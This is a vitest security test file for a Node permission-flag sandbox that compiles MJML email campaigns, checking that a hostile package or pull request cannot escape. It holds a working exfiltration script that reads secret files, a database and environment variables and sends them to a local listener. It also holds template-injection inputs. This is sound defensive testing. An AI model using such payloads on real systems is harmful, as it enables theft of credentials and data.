import { type ChildProcess, spawn } from 'node:child_process'
import { once } from 'node:events'
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { createServer, type Server } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { DatabaseSync } from 'node:sqlite'
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { createCompiler } from '../../../src/adapters/compile-child/compiler.ts'
import { childEntry, jailFlags, jailOptions } from '../../../src/adapters/compile-child/jail.ts'
import { compileRequest } from '../../support/compile-request.ts'

const canaries = {
  file: 'canary-file-71c0',
  database: 'canary-database-5be2',
  environment: 'canary-environment-90dd',
}

const root = join(import.meta.dirname, '../../..')
let folder: string
let server: Server
let arrived = ''

/** What a script in the pull request, or in a package we trust, would try. It tells what it got by every way out. */
function hostileScript(port: number): string {
  return `
const loot = {}
const attempt = (name, take) => {
  try { loot[name] = take() } catch (error) { loot[name] = 'refused: ' + (error.code ?? error.message) }
}
const fs = require('node:fs')
attempt('file', () => fs.readFileSync(${JSON.stringify(join(folder, 'secret.txt'))}, 'utf8'))
attempt('sameFileByUrl', () => fs.readFileSync(new URL('file://' + ${JSON.stringify(join(folder, 'secret.txt'))}), 'utf8'))
attempt('content', () => fs.readFileSync(${JSON.stringify(join(root, 'campaigns/_layouts/newsletter.mjml'))}, 'utf8').slice(0, 6))
attempt('folder', () => fs.readdirSync(${JSON.stringify(join(root, 'campaigns'))}).length > 0 && 'listed')
attempt('code', () => fs.existsSync(${JSON.stringify(join(root, 'src/commands/compile-child.ts'))}) && 'there')
attempt('database', () => {
  const { DatabaseSync } = require('node:sqlite')
  return new DatabaseSync(${JSON.stringify(join(folder, 'store.db'))}).prepare('SELECT secret FROM contacts').get().secret
})
attempt('environment', () => process.env.POSTMERGE_CANARY ?? 'nothing')
attempt('process', () => require('node:child_process').execFileSync('/bin/cat', [${JSON.stringify(join(folder, 'secret.txt'))}], { encoding: 'utf8' }))
attempt('worker', () => { new (require('node:worker_threads').Worker)('1', { eval: true }); return 'started' })
attempt('eval', () => new Function('return "ran"')())
attempt('binding', () => typeof process.binding('fs').open)
attempt('inspector', () => { require('node:inspector').open(0); return 'open' })
attempt('write', () => { fs.writeFileSync(${JSON.stringify(join(folder, 'loot.json'))}, JSON.stringify(loot)); return 'written' })
const out = JSON.stringify(loot)
const done = () => { process.stdout.write(out + '\\n', () => process.exit(0)) }
attempt('net', () => {
  const socket = require('node:net').connect(${port}, '127.0.0.1', () => socket.end(out, done))
  socket.on('error', done)
  return 'connected'
})
fetch('http://127.0.0.1:${port}/?' + encodeURIComponent(out)).catch(() => {})
setTimeout(done, 1500)
`
}

beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), 'postmerge-attack-'))
  server = createServer((socket) => {
    arrived += '<connection>'
    socket.on('data', (data) => (arrived += data.toString()))
    socket.on('error', () => {})
  })
  server.listen(0, '127.0.0.1')
  await once(server, 'listening')
  const address = server.address()
  const port = typeof address === 'object' && address !== null ? address.port : 0
  writeFileSync(join(folder, 'secret.txt'), canaries.file)
  const database = new DatabaseSync(join(folder, 'store.db'))
  database.exec(`CREATE TABLE contacts (secret TEXT); INSERT INTO contacts VALUES ('${canaries.database}')`)
  database.close()
  writeFileSync(join(folder, 'evil.cjs'), hostileScript(port))
  writeFileSync(join(folder, '.mjmlconfig'), JSON.stringify({ packages: ['./evil.cjs'] }))
  mkdirSync(join(folder, 'empty'))
})
afterAll(() => {
  server.close()
  rmSync(folder, { recursive: true, force: true })
})
beforeEach(() => {
  arrived = ''
  rmSync(join(folder, 'loot.json'), { force: true })
})

async function outputOf(child: ChildProcess): Promise<string> {
  let output = ''
  child.stdout?.on('data', (data: Buffer) => (output += data.toString()))
  await once(child, 'close')
  return output
}

const unjailed = { env: { ...process.env, POSTMERGE_CANARY: canaries.environment } }
const request = `${JSON.stringify(compileRequest({ body: 'Hello {{ first_name }}' }))}\n`

describe('a package turned hostile', () => {
  test('takes everything when it runs without the flags', async () => {
    const output = await outputOf(
      spawn(process.execPath, [join(folder, 'evil.cjs')], { ...unjailed, cwd: folder }),
    )
    expect(JSON.parse(output)).toEqual({
      file: canaries.file,
      sameFileByUrl: canaries.file,
      content: '<mjml>',
      folder: 'listed',
      code: 'there',
      database: canaries.database,
      environment: canaries.environment,
      process: canaries.file,
      worker: 'started',
      eval: 'ran',
      binding: 'function',
      inspector: 'open',
      write: 'written',
    })
    for (const canary of Object.values(canaries)) expect(arrived).toContain(canary)
    expect(readFileSync(join(folder, 'loot.json'), 'utf8')).toContain(canaries.database)
  })

  test('gets nothing, and reaches nobody, under the flags', async () => {
    const flags = [...jailFlags(256), `--allow-fs-read=${join(folder, 'evil.cjs')}`]
    const child = spawn(
      process.execPath,
      [...flags, join(folder, 'evil.cjs')],
      jailOptions(join(folder, 'empty')),
    )
    const loot: Record<string, string> = JSON.parse(await outputOf(child))
    expect(loot).toEqual({
      file: 'refused: ERR_ACCESS_DENIED',
      sameFileByUrl: 'refused: ERR_ACCESS_DENIED',
      content: 'refused: ERR_ACCESS_DENIED',
      folder: 'refused: ERR_ACCESS_DENIED',
      code: 'there',
      database: expect.stringMatching(
        /^refused: (?:MODULE_NOT_FOUND|ERR_UNKNOWN_BUILTIN_MODULE|No such built-in module)/,
      ),
      environment: 'nothing',
      process: 'refused: ERR_ACCESS_DENIED',
      worker: 'refused: ERR_ACCESS_DENIED',
      eval: expect.stringMatching(/^refused: /),
      binding: 'refused: ERR_ACCESS_DENIED',
      inspector: 'refused: ERR_ACCESS_DENIED',
      write: 'refused: ERR_ACCESS_DENIED',
    })
    expect(arrived).toBe('')
    expect(existsSync(join(folder, 'loot.json'))).toBe(false)
  })
})

describe('a pull request with a .mjmlconfig that names a script', () => {
  test('has its script run by the tool chain where nothing holds it', async () => {
    const child = spawn(process.execPath, ['--no-warnings', childEntry], { ...unjailed, cwd: folder })
    child.stdin.on('error', () => {})
    child.stdin.end(request)
    await outputOf(child)
    for (const canary of Object.values(canaries)) expect(arrived).toContain(canary)
  })

  test('is not even read in the jail, though it lies in the current folder', async () => {
    const child = spawn(process.execPath, [...jailFlags(256), childEntry], { ...jailOptions(folder) })
    child.stdin.end(request)
    const answer = await outputOf(child)
    expect(JSON.parse(answer)).toMatchObject({ version: 1, findings: [] })
    expect(arrived).toBe('')
    expect(existsSync(join(folder, 'loot.json'))).toBe(false)
  })
})

describe('a pull request whose content attacks', () => {
  const document = (components: string) =>
    compileRequest({
      kind: 'mjml',
      path: 'campaigns/x/campaign.mjml',
      body: `<mjml><mj-body><mj-section><mj-column>\n${components}\n</mj-column></mj-section></mj-body></mjml>`,
    })

  test('is told what is wrong, each in its place, and nothing arrives', async () => {
    const compiler = createCompiler({ reuse: true, children: 1 })
    const codes = async (components: string) =>
      (await compiler.compile(document(components))).findings.map(
        ({ code, place }) => `${place.line} ${code}`,
      )
    try {
      const secret = join(folder, 'secret.txt')
      expect(await codes(`<mj-include path="${secret}" />`)).toEqual(['8 mjml-include'])
      expect(await codes(`<mj-include path="${secret}" type="html" />`)).toEqual(['8 mjml-include'])
      expect(await codes(`{% render "${secret}" %}`)).toEqual(['8 template-render-name'])
      expect(await codes(`{% include "${secret}" %}{% layout "${secret}" %}`)).toEqual([
        '8 template-tag-unknown',
        '8 template-tag-unknown',
      ])
      expect(await codes('<mj-text>{% for i in (1..10000000) %}{{ i }}{% endfor %}</mj-text>')).toEqual([
        '8 template-loop-too-long',
      ])
      expect(await codes('<mj-text>{{ constructor }}{{ process }}</mj-text>')).toEqual([
        '8 undeclared-field',
        '8 undeclared-field',
      ])
    } finally {
      await compiler.close()
    }
    expect(arrived).toBe('')
  })
})
